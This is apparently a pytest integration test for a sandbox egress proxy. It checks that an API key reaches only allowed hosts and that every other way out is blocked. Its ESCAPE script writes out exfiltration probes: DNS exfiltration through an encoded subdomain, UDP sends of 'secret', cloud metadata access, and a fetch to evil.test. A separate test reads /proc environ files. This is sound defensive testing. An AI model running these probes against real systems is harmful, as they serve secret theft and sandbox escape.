"""The proxy is the only way out of a real sandbox (C16), and what goes it holds no secret (C15)."""

import json
import os
import tempfile
from collections.abc import AsyncGenerator
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path

import pytest

from domain.sandbox import EgressRow, SecretGrant
from services.sandbox.bubblewrap.backend import BubblewrapBackend
from services.sandbox.egress.broker import Session
from services.sandbox.failures import SandboxUnavailable
from services.sandbox.port import Command, Outcome, Owner, Sandbox, SandboxSpec
from services.sandbox.workspace import Workspace
from tests.integration.egress_world import GOOD, META, World, world

pytestmark = [pytest.mark.anyio, pytest.mark.sandbox]

KEY = "sk-canary-0123456789"
GRANTS = (SecretGrant(name="KEY", deliver="egress", hosts=("api.test",)),)

FETCH = """
import json, os, sys, urllib.request
request = urllib.request.Request(sys.argv[1], headers={"X-Api-Key": os.environ["KEY"]})
print(urllib.request.urlopen(request, timeout=20).read().decode())
"""

ESCAPE = """
import json, socket, sys, urllib.request
port = int(sys.argv[1])
def tried(work):
    try:
        return repr(work())
    except Exception as error:
        return "error: " + type(error).__name__
def stream(family, host, port):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(5)
        one.connect((host, port))
        return "connected"
def datagram(family, host, port):
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.sendto(b"secret", (host, port))
        return "sent"
def name(host):
    return socket.getaddrinfo(host, 443)
def fetch(url):
    return urllib.request.urlopen(url, timeout=20).status
print(json.dumps({
    "dns": tried(lambda: name("c2VjcmV0.exfil.test")),
    "dns of an allowed host": tried(lambda: name("up.test")),
    "raw": tried(lambda: stream(socket.AF_INET, "1.1.1.1", 443)),
    "raw of the host": tried(lambda: stream(socket.AF_INET, "127.0.0.1", port)),
    "ipv6": tried(lambda: stream(socket.AF_INET6, "2606:4700:4700::1111", 443)),
    "ipv6 of the host": tried(lambda: stream(socket.AF_INET6, "::1", port)),
    "udp": tried(lambda: datagram(socket.AF_INET, "8.8.8.8", 53)),
    "udp6": tried(lambda: datagram(socket.AF_INET6, "2001:4860:4860::8888", 53)),
    "metadata": tried(lambda: stream(socket.AF_INET, "169.254.169.254", 80)),
    "metadata by proxy": tried(lambda: fetch("http://169.254.169.254/latest/")),
    "metadata by name": tried(lambda: fetch("http://meta.test/latest/")),
    "another host by proxy": tried(lambda: fetch("https://evil.test/")),
    "the proxy by proxy": tried(lambda: fetch("http://127.0.0.1.nip.io:3128/")),
}))
"""


class Inside:
    """A sandbox with egress, and the world it reaches."""

    def __init__(self, here: World, sandbox: Sandbox, session: Session) -> None:
        self.here, self.sandbox, self.session = here, sandbox, session

    async def python(self, script: str, *args: str) -> Outcome:
        command = Command("python3", ("-c", script, *args), env=self.here.prepared.env)
        return await self.sandbox.exec(command)


@asynccontextmanager
async def inside(*, privileged: bool) -> AsyncGenerator[Inside]:
    async with AsyncExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        here = await stack.enter_async_context(world(folder, secrets={"KEY": KEY}, grants=GRANTS))
        files = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        if privileged:
            os.chmod(files, 0o755)  # noqa: PTH101 - a Path would block just as long
            os.chown(files, 23456, 23456)
        workspace = stack.enter_context(Workspace(files))
        backend = BubblewrapBackend(folder, privileged=privileged)
        stack.push_async_callback(backend.close)
        sandbox = await backend.open(
            SandboxSpec(
                owner=Owner(place="place", epoch="e1", tenant="acme", job="job", run="run"),
                workspace=workspace,
                egress=True,
                files=here.prepared.files,
            )
        )
        stack.push_async_callback(sandbox.close)

        async def on_denied(row: EgressRow) -> None:
            here.denied.append(row)

        assert sandbox.proxy is not None
        session = await here.broker.attach(here.prepared, sandbox.proxy, on_denied)
        stack.push_async_callback(session.close)
        yield Inside(here, sandbox, session)


@pytest.fixture(scope="module", params=[True, False], ids=["root", "nobody"])
async def tried(request: pytest.FixtureRequest) -> AsyncGenerator[Inside]:
    if request.param and os.geteuid() != 0:
        pytest.skip("needs root")
    async with AsyncExitStack() as stack:
        try:
            made = await stack.enter_async_context(inside(privileged=request.param))
        except SandboxUnavailable as problem:
            pytest.skip(str(problem))
        yield made


def said(outcome: Outcome) -> str:
    return bytes(outcome.stdout.kept).decode() + bytes(outcome.stderr.kept).decode()


async def test_allowed_hosts_are_reached_from_inside(tried: Inside) -> None:
    here = tried.here
    for url in (f"http://{GOOD}:{here.web.port}/", f"https://api.test:{here.safe.port}/"):
        outcome = await tried.python(FETCH, url)
        assert (outcome.exit_code, said(outcome)) == (0, "hello\n")
    assert KEY.encode() not in here.web.heads[-1]
    assert KEY.encode() in here.safe.heads[-1]
    tally = await tried.session.take()
    assert {row.host for row in tally.rows} == {GOOD, "api.test"}
    assert [use.secret for use in tally.uses] == ["KEY"]


async def test_nothing_inside_holds_the_value(tried: Inside) -> None:
    """C15: the environment, the files, what any process shows."""
    script = "cat /proc/*/environ /proc/*/cmdline /run/peritus/* 2>/dev/null; env"
    command = Command("sh", ("-c", script), env=tried.here.prepared.env)
    shown = said(await tried.sandbox.exec(command))
    assert tried.here.prepared.stand_ins["KEY"] in shown
    assert "BEGIN CERTIFICATE" in shown
    assert KEY not in shown
    assert "PRIVATE KEY" not in shown


async def test_there_is_no_other_way_out(tried: Inside) -> None:
    """C16 by name: DNS, raw addresses, IPv6, UDP, the host, metadata, the proxy itself."""
    await tried.session.take()
    before = tried.here.web.connections + tried.here.safe.connections
    outcome = await tried.python(ESCAPE, str(tried.here.web.port))
    results: dict[str, str] = json.loads(said(outcome))
    assert len(results) == 13
    assert {word for word in results.values() if not word.startswith("error: ")} == set()
    assert results["dns"] == "error: gaierror"
    assert tried.here.web.connections + tried.here.safe.connections == before
    rows = (await tried.session.take()).rows
    assert {(row.host, row.verdict, row.reason) for row in rows} == {
        ("169.254.169.254", "denied", "ip_literal"),
        (META, "denied", "address"),
        ("evil.test", "denied", "not_allowed"),
        ("127.0.0.1.nip.io", "denied", "not_allowed"),
    }
    assert {row.host for row in tried.here.denied} >= {"evil.test", META}
